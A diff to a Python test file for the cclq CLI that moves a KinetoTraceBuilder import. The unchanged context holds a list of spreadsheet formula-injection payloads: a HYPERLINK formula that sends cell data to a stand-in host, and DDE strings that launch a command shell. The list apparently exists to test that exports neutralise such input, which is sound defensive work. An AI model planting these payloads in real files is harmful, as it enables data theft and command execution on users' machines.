@@ -14,9 +14,9 @@ import pytest
 from typer.testing import CliRunner
 
 from cclq.cli.app import app
-from cclq.dev.synth.kineto import KinetoTraceBuilder
 from cclq.ingest.run import ingest
 from cclq.store.warehouse import Warehouse
+from cclq.synth.kineto import KinetoTraceBuilder
 
 HOSTILE = ['=HYPERLINK("http://example.invalid/?x="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\tcmd", "\rcmd"]
